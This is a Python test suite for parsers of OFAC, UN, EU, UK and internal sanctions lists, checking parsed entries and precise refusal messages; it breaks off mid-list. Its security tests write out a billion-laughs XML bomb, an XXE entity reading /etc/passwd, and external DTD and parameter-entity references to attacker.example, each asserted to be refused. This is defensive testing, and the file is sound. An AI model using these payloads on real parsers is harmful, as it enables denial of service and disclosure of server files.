"""Sanctions-list parsers: each published format's fixture (tests/vectors/sanctions/, real excerpts
of the official lists) parses into the entries the list gives, and every way a file can be wrong
is refused whole, with a message naming the element or line and the problem."""

from __future__ import annotations

import gc
import hashlib
from collections.abc import Callable
from datetime import date
from pathlib import Path

import pytest

from inference.screening.entries import EntryId, SanctionsList
from inference.screening.errors import ListFormatError
from inference.screening.lists import FORMATS, _values, _xml, load
from inference.screening.lists._xsd import compile_schema
from inference.screening.lists.ofac_enhanced_xml import SCHEMA_FILE

VECTORS = Path(__file__).parents[2] / "vectors" / "sanctions"
XSD = Path(__file__).parents[3] / "inference" / "screening" / "lists" / "xsd" / SCHEMA_FILE


def vec(name: str) -> bytes:
    return (VECTORS / name).read_bytes()


def replaced(data: bytes, old: str, new: str, count: int = 1) -> bytes:
    """``data`` with ``old`` replaced (asserting it is there, so a test cannot pass by missing)."""
    assert old.encode() in data, old
    return data.replace(old.encode(), new.encode(), count)


def refusal(data: bytes, fmt: str, name: str | None = None, **kw: object) -> str:
    """The refusal's message (a classic OFAC file is loaded as the SDN list unless ``name`` says)."""
    with pytest.raises(ListFormatError) as caught:
        load(data, fmt, name if name is not None else "ofac-sdn" if fmt == "ofac-xml" else "l1",
             **kw)  # type: ignore[arg-type]
    assert caught.value.fmt == fmt
    return str(caught.value)


SDN, CONS, ENH = vec("ofac_sdn.xml"), vec("ofac_consolidated.xml"), vec("ofac_enhanced.xml")
UN, EU, UK = vec("un_consolidated.xml"), vec("eu_fsf.xml"), vec("uk_sanctions_list.xml")
CSV, JSON = vec("internal.csv"), vec("internal.json")
FIXTURES = {"ofac-xml": SDN, "ofac-enhanced-xml": ENH, "un-xml": UN, "eu-xml": EU, "uk-xml": UK,
            "internal-csv": CSV, "internal-json": JSON}
XML_FORMATS = ("ofac-xml", "ofac-enhanced-xml", "un-xml", "eu-xml", "uk-xml")


def loaded(fmt: str, data: bytes | None = None) -> SanctionsList:
    name = {"ofac-xml": "ofac-sdn", "internal-json": "internal-exits"}.get(fmt, "l1")
    return load(FIXTURES[fmt] if data is None else data, fmt, name,
                published=date(2024, 5, 1) if fmt == "internal-csv" else None)


# --- each format's fixture ---------------------------------------------------------------------

def test_every_format_has_a_fixture_and_each_loads_with_the_sha256_of_its_bytes() -> None:
    assert set(FORMATS) == set(FIXTURES)
    for fmt in FORMATS:
        lst = loaded(fmt)
        assert lst.entries and lst.sha256 == hashlib.sha256(FIXTURES[fmt]).hexdigest()
        assert lst.format == f"{fmt}/1"


def test_ofac_sdn_classic_xml() -> None:
    lst = load(SDN, "ofac-xml", "ofac-sdn")
    assert (lst.source, lst.name, lst.published) == ("ofac-sdn", "ofac-sdn", date(2020, 4, 22))
    assert lst.sha256 == "3ab08157a07691bc74e6014055635402d0bf9dfeebdc0b8ff23139ebd500ed0f"
    assert [e.entry_id for e in lst.entries] == ["10689", "18619", "19187", "12057", "99000001"]
    saeed = lst.by_id["10689"]
    assert saeed.kind == "individual" and saeed.names[0] == "Muhammad SAEED" and len(saeed.names) == 11
    assert sorted(saeed.names[i] for i in saeed.weak_aliases) == ["HAFIZ SAHIB", "TATA JI"]
    assert (saeed.dobs, saeed.dob_years) == (("1950-06-05",), frozenset({1950}))
    assert saeed.countries == ("PK",) and saeed.programmes == ("SDGT",)
    assert saeed.identifiers[1] == EntryId("Passport", "BE5978421", "PK") and len(saeed.identifiers) == 4
    assert saeed.places == ("Sargodha, Punjab, Pakistan", "Lahore City, Lahore District")
    khan = lst.by_id["18619"]
    assert khan.dobs == ("1976/1978", "1977/1979") and khan.dob_years == frozenset(range(1976, 1980))
    naqdi = lst.by_id["12057"]
    assert naqdi.identifiers == ()  # "Gender" and "Additional Sanctions Information -" identify nothing
    assert naqdi.dobs == ("1951/1953", "1960/1962", "1961-04", "1953") and naqdi.countries == ("IR",)
    assert naqdi.places == ("Najaf, Iraq", "Tehran, Iran") and len(naqdi.programmes) == 6
    troll = lst.by_id["19187"]
    assert (troll.kind, troll.names) == ("entity", ("TROLL PROPERTIES, INC.",))
    assert troll.identifiers == (EntryId("RUC #", "991715-1-534344", "PA"),) and troll.countries == ("PA",)
    bank = lst.by_id["99000001"]
    assert bank.bics == ("SLTRGB2L", "SLTRGB2LXXX") and bank.identifiers == () and bank.countries == ("GB",)


def test_ofac_consolidated_classic_xml() -> None:
    lst = load(CONS, "ofac-xml", "ofac-consolidated")
    assert (lst.source, lst.published) == ("ofac-consolidated", date(2020, 3, 17))
    assert lst.sha256 == "f179e5dbb8d4021fdbeaf5648be8c6216e41312845f562daa0e3eee28f495a14"
    haniya, shanti = lst.entries
    assert haniya.names == ("Ismail Abdul Salah HANIYA", "Ismail HANIYA", "Ismaeel HANIYYA")
    assert (haniya.dobs, haniya.places, haniya.programmes) == (("1962",), ("Shati",), ("NS-PLC",))
    assert shanti.countries == ("PS",)  # "Palestinian", as OFAC writes it


def test_ofac_classic_xml_in_the_2024_namespace_reads_the_same() -> None:
    new = replaced(SDN, "http://tempuri.org/sdnList.xsd",
                   "https://sanctionslistservice.ofac.treas.gov/api/PublicationPreview/exports/XML")
    old_list, new_list = load(SDN, "ofac-xml", "ofac-sdn"), load(new, "ofac-xml", "ofac-sdn")
    assert new_list.entries == old_list.entries and new_list.sha256 != old_list.sha256


def test_which_ofac_list_a_classic_file_is_comes_from_the_source_argument_or_the_name() -> None:
    assert load(CONS, "ofac-xml", "us-non-sdn", source="ofac-consolidated").source == "ofac-consolidated"
    assert load(SDN, "ofac-xml", "ofac-sdn").source == "ofac-sdn"
    assert "source='ofac-sdn'" in refusal(SDN, "ofac-xml", "us-lists")


def test_ofac_enhanced_xml() -> None:
    lst = loaded("ofac-enhanced-xml")
    assert (lst.source, lst.published) == ("ofac-sdn", date(2020, 4, 22))
    assert [e.entry_id for e in lst.entries] == ["10689", "19187", "99000001"]
    saeed = lst.by_id["10689"]
    assert saeed.names == ("Muhammad SAEED", "Hafiz Muhammad SAEED", "HAFIZ SAHIB")
    assert saeed.weak_aliases == frozenset({2})  # isLowQuality
    assert (saeed.dobs, saeed.dob_years, saeed.countries) == (("1950-06-05",), frozenset({1950}), ("PK",))
    assert saeed.listed_on == date(2008, 12, 10) and saeed.programmes == ("SDGT",)
    assert saeed.identifiers == (EntryId("Passport", "BE5978421", "PK"),
                                 EntryId("National ID No.", "23250460642", "PK"))
    assert lst.by_id["99000001"].bics == ("SLTRGB2L",)


def test_ofac_enhanced_and_classic_agree_on_the_entries_they_share() -> None:
    classic, enhanced = load(SDN, "ofac-xml", "ofac-sdn"), loaded("ofac-enhanced-xml")
    for uid in ("10689", "19187"):
        c, e = classic.by_id[uid], enhanced.by_id[uid]
        assert (e.kind, e.names[0], e.programmes, e.dobs, e.countries) == (
            c.kind, c.names[0], c.programmes, c.dobs, c.countries)
        assert set(e.names) <= set(c.names) and set(e.identifiers) <= set(c.identifiers)
        assert {e.names[i] for i in e.weak_aliases} <= {c.names[i] for i in c.weak_aliases}


def test_an_enhanced_file_with_a_non_sdn_list_is_the_consolidated_list() -> None:
    data = replaced(ENH, 'datePublished="2016-11-15">SDN List<',
                    'datePublished="2016-11-15">Sectoral Sanctions Identifications List<')
    assert loaded("ofac-enhanced-xml", data).source == "ofac-consolidated"


def test_un_consolidated_list() -> None:
    lst = loaded("un-xml")
    assert (lst.source, lst.published) == ("un", date(2026, 2, 27))
    assert lst.sha256 == hashlib.sha256(UN).hexdigest()
    assert [e.entry_id for e in lst.entries] == ["CDi.002", "TAi.154", "YEe.001"]
    frank = lst.by_id["CDi.002"]
    assert frank.countries == ("CD",) and frank.names[0] == "FRANK KAKOLELE BWAMBALE"
    noorzai = lst.by_id["TAi.154"]
    assert noorzai.names[:2] == ("MALIK NOORZAI", "مالک نورزى")  # NAME_ORIGINAL_SCRIPT, an alias
    assert [noorzai.names[i] for i in noorzai.weak_aliases] == ["Haji Maluk"]  # QUALITY Low
    assert (noorzai.dobs, noorzai.dob_years) == (("1957", "1963-01-01"), frozenset({1957, 1963}))
    assert noorzai.countries == ("AF", "PK") and noorzai.places == ("Chaman", "Pishin")
    assert noorzai.identifiers == (EntryId("Passport", "FA0157612", "PK"),)
    assert (noorzai.listed_on, noorzai.programmes) == (date(2011, 10, 4), ("Taliban",))
    houthis = lst.by_id["YEe.001"]
    assert houthis.kind == "entity" and houthis.names == ("THE HOUTHIS", "ANSARALLAH", "ANSAR ALLAH",
                                                          "PARTISANS OF GOD")


def test_un_dates_of_birth_between_two_years_and_approximately() -> None:
    data = replaced(UN, "<TYPE_OF_DATE>EXACT</TYPE_OF_DATE>\n        <YEAR>1957</YEAR>",
                    "<TYPE_OF_DATE>BETWEEN</TYPE_OF_DATE><FROM_YEAR>1955</FROM_YEAR><TO_YEAR>1957</TO_YEAR>")
    data = replaced(data, "<TYPE_OF_DATE>EXACT</TYPE_OF_DATE>\n        <DATE>1963-01-01</DATE>",
                    "<TYPE_OF_DATE>APPROXIMATELY</TYPE_OF_DATE><YEAR>1963</YEAR>")
    noorzai = loaded("un-xml", data).by_id["TAi.154"]
    assert (noorzai.dobs, noorzai.dob_years) == (("1955/1957", "1963~"), frozenset({1955, 1956, 1957, 1963}))


def test_eu_financial_sanctions_file() -> None:
    lst = loaded("eu-xml")
    assert (lst.source, lst.published) == ("eu", date(2020, 4, 15))
    assert [e.entry_id for e in lst.entries] == ["5295", "5463", "5468", "191", "5807"]
    zeid = lst.by_id["5295"]
    assert zeid.names == ("Abid Hammadou", "Abdelhamid Abou Zeid", "Youcef Adel", "Amor Mohamed Ghedeir",
                          "Abou Abdellah")
    assert (zeid.dobs, zeid.dob_years) == (("1965-12-12", "1958~"), frozenset({1958, 1965}))  # circa
    assert (zeid.countries, zeid.listed_on, zeid.programmes) == (("DZ",), date(2008, 7, 3), ("TAQA",))
    ksm = lst.by_id["191"]
    assert ksm.identifiers == (EntryId("National passport", "488555", None),)  # country "00": unknown
    assert ksm.dobs == ("1965-04-14", "1964-03-01") and ksm.listed_on is None and ksm.places == ()
    assert lst.by_id["5807"].countries == ("RW", "CD")  # citizenship, then an address


def test_eu_weak_names_and_the_first_strong_name_leads() -> None:
    data = replaced(EU, 'wholeName="Youcef Adel" function="" title="" nameLanguage="" strong="true"',
                    'wholeName="Youcef Adel" function="" title="" nameLanguage="" strong="false"')
    data = replaced(data, 'wholeName="Abid Hammadou" function="" title="" nameLanguage="" strong="true"',
                    'wholeName="Abid Hammadou" function="" title="" nameLanguage="" strong="false"')
    zeid = loaded("eu-xml", data).by_id["5295"]
    assert zeid.names[0] == "Abdelhamid Abou Zeid"
    assert sorted(zeid.names[i] for i in zeid.weak_aliases) == ["Abid Hammadou", "Youcef Adel"]


def test_eu_swift_bic_identification_is_a_bic() -> None:
    data = replaced(EU, 'number="488555" region="" countryIso2Code="00" countryDescription="UNKNOWN" '
                    'identificationTypeCode="passport" identificationTypeDescription="National passport"',
                    'number="abcd pk ka" region="" countryIso2Code="PK" countryDescription="PAKISTAN" '
                    'identificationTypeCode="swiftbic" identificationTypeDescription="SWIFT BIC"')
    ksm = loaded("eu-xml", data).by_id["191"]
    assert (ksm.bics, ksm.identifiers) == (("ABCDPKKA",), ())


def test_uk_sanctions_list() -> None:
    lst = loaded("uk-xml")
    assert (lst.source, lst.published) == ("uk", date(2026, 9, 2))
    hawala, akhund = lst.entries
    assert (hawala.entry_id, hawala.kind, hawala.listed_on) == ("AFG0001", "entity", date(2012, 6, 29))
    assert hawala.names == ("HAJI KHAIRULLAH HAJI SATTAR MONEY EXCHANGE", "Haji Alim Hawala",
                            "Haji Hakim Hawala")
    assert hawala.countries == ("AF", "AE") and hawala.places == ("Nimroz Province", "Dubai")
    assert hawala.programmes == ("The Afghanistan (Sanctions) (EU Exit) Regulations 2020",)
    assert (akhund.entry_id, akhund.kind) == ("AFG0006", "individual")
    assert akhund.names == ("MOHAMMAD HASSAN AKHUND",)
    assert (akhund.dobs, akhund.dob_years) == (("1945", "1946"), frozenset({1945, 1946}))  # dd/mm/1945


def test_uk_alias_strength_name_types_in_any_case_and_non_latin_names() -> None:
    data = replaced(UK, "      <Name>\n        <Name1>MOHAMMAD</Name1>",
                    "      <Name><Name6>Haji Mohammad Hassan</Name6><NameType>ALias</NameType>"
                    "<AliasStrength>Low quality a.k.a</AliasStrength></Name>\n"
                    "      <Name><Name6>Mullah Akhund</Name6><NameType>Alias</NameType>"
                    "<AliasStrength>Good quality a.k.a</AliasStrength></Name>\n"
                    "      <Name>\n        <Name1>MOHAMMAD</Name1>")
    data = replaced(data, "<NameType>Primary Name</NameType>\n      </Name>\n    </Names>\n    <RegimeName>",
                    "<NameType>Primary name</NameType>\n      </Name>\n    </Names>\n"
                    "    <NonLatinNames><NonLatinName><NameNonLatinScript>محمد حسن آخوند</NameNonLatinScript>"
                    "</NonLatinName></NonLatinNames>\n    <RegimeName>")
    data = replaced(data, "<DOB>dd/mm/1946</DOB>", "<DOB>14/06/1946</DOB><DOB>dd/07/1947</DOB>")
    akhund = loaded("uk-xml", data).by_id["AFG0006"]
    assert akhund.names == ("MOHAMMAD HASSAN AKHUND", "Haji Mohammad Hassan", "Mullah Akhund",
                            "محمد حسن آخوند")
    assert akhund.weak_aliases == frozenset({1})
    assert akhund.dobs == ("1945", "1946-06-14", "1947-07")


def test_internal_csv_and_json_read_the_same_entries() -> None:
    from_csv = load(CSV, "internal-csv", "internal-exits", published=date(2024, 5, 1))
    from_json = load(JSON, "internal-json", "internal-exits")
    assert from_csv.entries == from_json.entries
    assert (from_csv.source, from_csv.published, from_json.published) == ("internal", date(2024, 5, 1),
                                                                          date(2024, 5, 1))
    assert load(CSV, "internal-csv", "internal-exits").published is None  # a CSV does not say
    person, company, vessel = from_csv.entries
    assert person.names == ("Jonathan Q. EXAMPLE", "Jon Example", "J. Q. Example")
    assert (person.dobs, person.dob_years) == (("1970-03-04", "1969/1971~"), frozenset({1969, 1970, 1971}))
    assert person.identifiers == (EntryId("PASSPORT", "123456789", "GB"),
                                  EntryId("NATIONAL ID", "AB 12 34 56 C"))
    assert person.countries == ("GB", "IE")
    assert company.bics == ("EXTRCY2L", "EXTRCY2LXXX") and company.programmes == ("EXIT-2024", "FRAUD")
    assert (vessel.kind, vessel.identifiers) == ("vessel", (EntryId("IMO", "9876543"),))


def test_where_a_format_states_its_source_and_date_the_file_wins() -> None:
    lst = load(UN, "un-xml", "un", source="un", published=date(2000, 1, 1))
    assert (lst.source, lst.published) == ("un", date(2026, 2, 27))
    assert load(ENH, "ofac-enhanced-xml", "e", source="ofac-consolidated").source == "ofac-sdn"


def test_reading_a_list_leaves_the_garbage_collector_as_it_found_it() -> None:
    assert gc.isenabled()
    loaded("un-xml")
    refusal(b"<CONSOLIDATED_LIST>", "un-xml")
    assert gc.isenabled()
    gc.disable()
    try:
        loaded("un-xml")
        assert not gc.isenabled()
    finally:
        gc.enable()


# --- refused: anything but a whole file of the format --------------------------------------------

def test_an_unknown_format_is_refused() -> None:
    assert "unknown list format" in refusal(UN, "un-csv")


def test_a_blank_list_name_is_refused() -> None:
    assert "non-blank name" in refusal(UN, "un-xml", " ")


@pytest.mark.parametrize("fmt", XML_FORMATS)
def test_not_xml_is_refused(fmt: str) -> None:
    assert "not well-formed XML" in refusal(b"entry_id,kind,name\n1,individual,X\n", fmt)


@pytest.mark.parametrize("fmt", XML_FORMATS)
def test_an_empty_file_is_refused(fmt: str) -> None:
    assert "empty" in refusal(b" \n", fmt)


@pytest.mark.parametrize("fmt", XML_FORMATS)
def test_a_file_cut_short_is_refused(fmt: str) -> None:
    assert "not well-formed XML" in refusal(FIXTURES[fmt][:-200], fmt)


@pytest.mark.parametrize(("fmt", "other"), [("ofac-xml", UN), ("ofac-enhanced-xml", SDN), ("un-xml", EU),
                                            ("eu-xml", UK), ("uk-xml", UN)])
def test_another_lists_file_is_refused_at_its_root(fmt: str, other: bytes) -> None:
    root = {UN: "CONSOLIDATED_LIST", SDN: "sdnList", EU: "export", UK: "Designations"}[other]
    assert f"the root element is <{root}>" in refusal(other, fmt)


def test_an_ofac_file_in_another_namespace_is_refused() -> None:
    message = refusal(replaced(SDN, "http://tempuri.org/sdnList.xsd", "http://example.com/sdnList.xsd"),
                      "ofac-xml", "ofac-sdn")
    assert "namespace 'http://example.com/sdnList.xsd'" in message
    assert "not a file of format ofac-xml" in message


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<CONSOLIDATED_LIST dateGenerated="2026-02-27"><INDIVIDUALS><INDIVIDUAL>
<REFERENCE_NUMBER>X.1</REFERENCE_NUMBER><FIRST_NAME>&lol9;</FIRST_NAME></INDIVIDUAL></INDIVIDUALS>
</CONSOLIDATED_LIST>"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE CONSOLIDATED_LIST [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<CONSOLIDATED_LIST><INDIVIDUALS><INDIVIDUAL><REFERENCE_NUMBER>X.1</REFERENCE_NUMBER>
<FIRST_NAME>&xxe;</FIRST_NAME></INDIVIDUAL></INDIVIDUALS></CONSOLIDATED_LIST>"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!-- a comment first --><!DOCTYPE CONSOLIDATED_LIST SYSTEM "http://attacker.example/list.dtd">
<CONSOLIDATED_LIST/>"""
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]><CONSOLIDATED_LIST/>"""


@pytest.mark.parametrize("fmt", XML_FORMATS)
def test_a_billion_laughs_bomb_is_refused_not_expanded(fmt: str) -> None:
    assert "DTDs, entity declarations and external references are refused" in refusal(
        BILLION_LAUGHS.encode(), fmt)


@pytest.mark.parametrize("doc", [EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY],
                         ids=["external-entity", "external-dtd", "parameter-entity"])
def test_an_external_entity_or_dtd_is_refused_not_fetched(doc: str) -> None:
    assert "DTDs, entity declarations and external references are refused" in refusal(doc.encode(), "un-xml")


def test_a_bomb_in_utf16_is_refused_too() -> None:
    data = BILLION_LAUGHS.replace('version="1.0"', 'version="1.0" encoding="UTF-16"').encode("utf-16")
    assert "DTDs, entity declarations and external references are refused" in refusal(data, "un-xml")


def test_a_reference_to_an_undeclared_entity_is_refused() -> None:
    data = replaced(UN, "<FIRST_NAME>THE HOUTHIS</FIRST_NAME>", "<FIRST_NAME>&xxe;</FIRST_NAME>")
    assert "undefined entity" in refusal(data, "un-xml")


def test_a_doctype_after_the_prolog_is_refused() -> None:
    data = replaced(UN, "<ENTITIES>", '<ENTITIES><!DOCTYPE x [<!ENTITY a "b">]>')
    assert "not well-formed XML" in refusal(data, "un-xml")


def test_a_file_over_the_size_limit_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(_xml, "MAX_LIST_BYTES", len(UN) - 1)
    assert f"the file is {len(UN)} bytes; the limit is {len(UN) - 1}" in refusal(UN, "un-xml")


def test_text_instead_of_bytes_is_refused() -> None:
    assert "expected bytes, got str" in refusal(UN.decode(), "un-xml")  # type: ignore[arg-type]


# One bad value per case: (format, fixture edit, words the refusal must contain).
Edit = Callable[[bytes], bytes]


def edit(old: str, new: str) -> Edit:
    return lambda data: replaced(data, old, new)


REFUSALS: list[tuple[str, str, Edit, tuple[str, ...]]] = [
    # OFAC classic
    ("ofac-xml", "no-id", edit("<uid>19187</uid>", "<uid> </uid>"), ("sdnEntry[3]", "has no id")),
    ("ofac-xml", "no-name", edit("<lastName>TROLL PROPERTIES, INC.</lastName>", "<lastName/>"),
     ("sdnEntry[3] (id '19187')", "has no name", "lastName")),
    ("ofac-xml", "duplicate-id", edit("<uid>19187</uid>", "<uid>10689</uid>"),
     ("sdnEntry[3]", "entry id '10689' appears twice", "first at sdnEntry[1]")),
    ("ofac-xml", "bad-dob", edit("05 Jun 1950", "31 Jun 1950"),
     ("dateOfBirthList/dateOfBirthItem[1]", "'31 Jun 1950' is not a date")),
    ("ofac-xml", "bad-dob-range", edit("1951 to 1953", "1953 to 1951"),
     ("(id '12057')/dateOfBirthList/dateOfBirthItem[1]", "ends", "before it starts")),
    ("ofac-xml", "bad-publish-date", edit("<Publish_Date>04/22/2020<", "<Publish_Date>22/04/2020<"),
     ("publshInformation/Publish_Date", "month must be in 1..12")),
    ("ofac-xml", "bic-7-chars", edit("<idNumber>SLTRGB2L</idNumber>", "<idNumber>SLTRGB2</idNumber>"),
     ("(id '99000001')/idList/id[1]", "'SLTRGB2' is 7 characters, not 8 or 11")),
    ("ofac-xml", "bic-12-chars", edit("<idNumber>SLTRGB2LXXX<", "<idNumber>SLTRGB2LXXXX<"),
     ("idList/id[2]", "is 12 characters, not 8 or 11")),
    ("ofac-xml", "bic-not-a-bic", edit("<idNumber>SLTRGB2L</idNumber>", "<idNumber>12345678</idNumber>"),
     ("idList/id[1]", "not of the form AAAABBCC")),
    ("ofac-xml", "entry-outside-the-list", edit("</akaList>", "<sdnEntry><uid>5</uid><lastName>X</lastName>"
                                                "</sdnEntry></akaList>"), ("found outside sdnList",)),
    # OFAC enhanced: the schema, then what the schema cannot say
    ("ofac-enhanced-xml", "no-name", lambda d: replaced(replaced(
        d, "<formattedLastName>TROLL PROPERTIES, INC.</formattedLastName>", "<formattedLastName/>"),
        "<formattedFullName>TROLL PROPERTIES, INC.</formattedFullName>", "<formattedFullName/>"),
     ("entity[2] (id '19187')", "has no name")),
    ("ofac-enhanced-xml", "duplicate-id", edit('<entity id="19187">', '<entity id="10689">'),
     ("entity[2]", "entry id '10689' appears twice")),
    ("ofac-enhanced-xml", "bic-9-chars", edit("<documentNumber>SLTRGB2L</documentNumber>",
                                              "<documentNumber>SLTRGB2LX</documentNumber>"),
     ("identityDocuments/identityDocument[1]", "is 9 characters, not 8 or 11")),
    ("ofac-enhanced-xml", "dob-ends-before-it-starts", edit("<toDateEnd>1950-06-05</toDateEnd>",
                                                            "<toDateEnd>1949-06-05</toDateEnd>"),
     ("(id '10689')/features/feature[1]", "before it starts")),
    # UN
    ("un-xml", "no-id", edit("<REFERENCE_NUMBER>TAi.154</REFERENCE_NUMBER>", "<REFERENCE_NUMBER/>"),
     ("INDIVIDUAL[2]", "has no id")),
    ("un-xml", "no-name", edit("<FIRST_NAME>THE HOUTHIS</FIRST_NAME>", "<FIRST_NAME></FIRST_NAME>"),
     ("ENTITY[1] (id 'YEe.001')", "has no name", "FIRST_NAME")),
    ("un-xml", "duplicate-id", edit("<REFERENCE_NUMBER>YEe.001</REFERENCE_NUMBER>",
                                    "<REFERENCE_NUMBER>CDi.002</REFERENCE_NUMBER>"),
     ("ENTITY[1]", "entry id 'CDi.002' appears twice", "first at INDIVIDUAL[1]")),
    ("un-xml", "bad-dob", edit("<DATE>1963-01-01</DATE>", "<DATE>1963-02-30</DATE>"),
     ("INDIVIDUAL_DATE_OF_BIRTH[2]", "'1963-02-30' is not a date")),
    ("un-xml", "bad-listed-on", edit("<LISTED_ON>2011-10-04<", "<LISTED_ON>04/10/2011<"),
     ("(id 'TAi.154')/LISTED_ON", "not an ISO 8601 date")),
    ("un-xml", "bad-date-generated", edit('dateGenerated="2026-02-27T00:00:09.554Z"',
                                          'dateGenerated="Friday"'),
     ("CONSOLIDATED_LIST/@dateGenerated", "'Friday' is not an ISO 8601 date")),
    ("un-xml", "individual-outside-individuals",
     edit("<ENTITIES>", "<ENTITIES><INDIVIDUAL><REFERENCE_NUMBER>X.1</REFERENCE_NUMBER>"
          "<FIRST_NAME>X</FIRST_NAME></INDIVIDUAL>"),
     ("1 entry found outside INDIVIDUALS",)),
    # EU
    ("eu-xml", "no-id", edit('euReferenceNumber="EU.4011.64" logicalId="5463"',
                             'euReferenceNumber="EU.4011.64" logicalId=""'),
     ("sanctionEntity[2]", "has no id")),
    ("eu-xml", "no-name", edit('firstName="Yu-ro" middleName="" lastName="Han" wholeName="Yu-ro Han"',
                               'firstName="" middleName="" lastName="" wholeName=""'),
     ("sanctionEntity[2] (id '5463')", "has no name")),
    ("eu-xml", "duplicate-id", edit('logicalId="5468"', 'logicalId="5463"'),
     ("sanctionEntity[3]", "entry id '5463' appears twice")),
    ("eu-xml", "bad-birthdate", edit('birthdate="1965-12-12"', 'birthdate="1965-13-12"'),
     ("(id '5295')/birthdate[1]", "'1965-13-12' is not a date")),
    ("eu-xml", "bad-designation-date", edit('designationDate="2008-07-03"', 'designationDate="3 July 2008"'),
     ("(id '5295')/@designationDate", "not an ISO 8601 date")),
    ("eu-xml", "bad-generation-date", edit('generationDate="2020-04-15T15:29:22.497+02:00"',
                                           'generationDate="x"'),
     ("export/@generationDate",)),
    ("eu-xml", "bad-bic", edit('number="488555" region="" countryIso2Code="00" countryDescription="UNKNOWN" '
                               'identificationTypeCode="passport"',
                               'number="ABCDPK" region="" countryIso2Code="00" countryDescription="UNKNOWN" '
                               'identificationTypeCode="swiftbic"'),
     ("(id '191')/identification[1]", "is 6 characters, not 8 or 11")),
    # UK
    ("uk-xml", "no-id", edit("<UniqueID>AFG0006</UniqueID>", "<UniqueID/>"), ("Designation[2]", "has no id")),
    ("uk-xml", "no-name", lambda d: replaced(replaced(replaced(
        d, "<Name1>MOHAMMAD</Name1>", ""), "<Name2>HASSAN</Name2>", ""), "<Name6>AKHUND</Name6>", ""),
     ("Designation[2] (id 'AFG0006')", "has no name")),
    ("uk-xml", "duplicate-id", edit("<UniqueID>AFG0006</UniqueID>", "<UniqueID>AFG0001</UniqueID>"),
     ("Designation[2]", "entry id 'AFG0001' appears twice")),
    ("uk-xml", "bad-dob", edit("<DOB>dd/mm/1945</DOB>", "<DOB>31/02/1945</DOB>"),
     ("(id 'AFG0006')/DOBs/DOB[1]", "'1945-02-31' is not a date")),
    ("uk-xml", "bad-date-generated", edit("<DateGenerated>02/09/2026</DateGenerated>",
                                          "<DateGenerated>2026-09-02</DateGenerated>"),
     ("Designations/DateGenerated", "is not a date written DD/MM/YYYY")),
    ("uk-xml", "bad-date-designated", edit("<DateDesignated>29/06/2012</DateDesignated>",
                                           "<DateDesignated>29/13/2012</DateDesignated>"),
     ("(id 'AFG0001')/DateDesignated", "month must be in 1..12")),
]


@pytest.mark.parametrize(("fmt", "bad", "change", "words"), REFUSALS,
                         ids=[f"{r[0]}:{r[1]}" for r in REFUSALS])
def test_a_bad_entry_refuses_the_whole_file(fmt: str, bad: str, change: Edit, words: tuple[str, ...]) -> None:
    message = refusal(change(FIXTURES[fmt]), fmt)
    for word in words:
        assert word in message, (bad, message)


# --- OFAC enhanced: the published schema ----------------------------------------------------------

def test_the_vendored_xsd_is_the_one_the_notice_names_and_the_fixture_is_valid_under_it() -> None:
    import xmlschema

    notice = (XSD.parent / "NOTICE").read_text()
    assert hashlib.sha256(XSD.read_bytes()).hexdigest() in notice
    assert xmlschema.XMLSchema(XSD.read_text()).is_valid(ENH.decode())


# Each breaks the schema in one way; xmlschema, the reference, must agree that it does.
SCHEMA_BREAKS = [
    ("required-element-missing", "<isLowQuality>false</isLowQuality>", "",
     "sanctionsData/entities/entity[1]/names/name[1]/isLowQuality: not valid under ofac_ENHANCED_XML.xsd: "
     "required element missing"),
    ("bad-boolean", "<isPrimary>true</isPrimary>", "<isPrimary>yes</isPrimary>",
     "entity[1]/names/name[1]/isPrimary: not valid under ofac_ENHANCED_XML.xsd: 'yes' is not a valid "
     "xs:boolean"),
    ("bad-int-attribute", '<entity id="19187">', '<entity id="x19187">',
     "sanctionsData/entities/entity[2]/@id: not valid under ofac_ENHANCED_XML.xsd: 'x19187' is not a valid "
     "xs:int"),
    ("int-out-of-range", "<identityId>5252</identityId>", "<identityId>2147483648</identityId>",
     "entity[1]/generalInfo/identityId: not valid under ofac_ENHANCED_XML.xsd"),
    ("unknown-element", "<identityId>5252</identityId>",
     "<identityId>5252</identityId><nickname>x</nickname>",
     "entity[1]/generalInfo/nickname: not valid under ofac_ENHANCED_XML.xsd: element not allowed here"),
    ("out-of-order", '<identityId>5252</identityId>\n        <entityType refId="600">Individual</entityType>',
     '<entityType refId="600">Individual</entityType>\n        <identityId>5252</identityId>',
     "entity[1]/generalInfo/identityId: not valid under ofac_ENHANCED_XML.xsd: required element missing"),
    ("twice-where-once", "<isLowQuality>false</isLowQuality>",
     "<isLowQuality>false</isLowQuality><isLowQuality>false</isLowQuality>",
     "names/name[1]/isLowQuality: not valid under ofac_ENHANCED_XML.xsd: occurs more than 1 time(s)"),
    ("unknown-attribute", "<names>", '<names colour="red">',
     "entity[1]/names/@colour: not valid under ofac_ENHANCED_XML.xsd: attribute not allowed here"),
    ("required-attribute-missing", '<namePart id="10692">', "<namePart>",
     "nameParts/namePart[1]/@id: not valid under ofac_ENHANCED_XML.xsd: required attribute missing"),
    ("text-among-elements", "<addresses>", "<addresses>stray text",
     "entity[1]/addresses: not valid under ofac_ENHANCED_XML.xsd: text 'stray text'"),
    ("bad-date", 'datePublished="2008-12-10"', 'datePublished="2008-12-32"',
     "sanctionsLists/sanctionsList[1]/@datePublished: not valid under ofac_ENHANCED_XML.xsd: '2008-12-32'"),
    ("bad-datetime", "<dataAsOf>2020-04-22T00:00:00</dataAsOf>", "<dataAsOf>2020-04-22</dataAsOf>",
     "sanctionsData/publicationInfo/dataAsOf: not valid under ofac_ENHANCED_XML.xsd: '2020-04-22' is not a "
     "valid xs:dateTime"),
